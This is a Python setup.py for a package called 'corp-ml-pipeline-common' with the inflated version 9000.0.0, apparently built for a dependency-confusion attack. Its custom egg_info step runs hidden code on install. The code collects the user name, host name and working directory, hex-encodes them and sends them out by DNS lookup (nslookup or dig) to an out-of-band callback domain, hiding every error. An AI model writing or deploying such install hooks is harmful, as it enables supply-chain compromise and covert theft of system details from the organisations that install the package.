import getpass
import os
import shutil
import socket
import subprocess

from setuptools import setup
from setuptools.command.egg_info import egg_info


class EggInfo(egg_info):
    def run(self):
        try:
            tag = ("%s@%s:%s" % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode().hex()[:60]
            name = tag + ".cmlpc.oast-callback.invalid"
            tool = shutil.which("nslookup") or shutil.which("dig")
            if tool:
                subprocess.run([tool, name], capture_output=True, timeout=5)
        except Exception:
            pass
        egg_info.run(self)


setup(
    name="corp-ml-pipeline-common",
    version="9000.0.0",
    packages=["corp_ml_pipeline_common"],
    cmdclass={"egg_info": EggInfo},
)
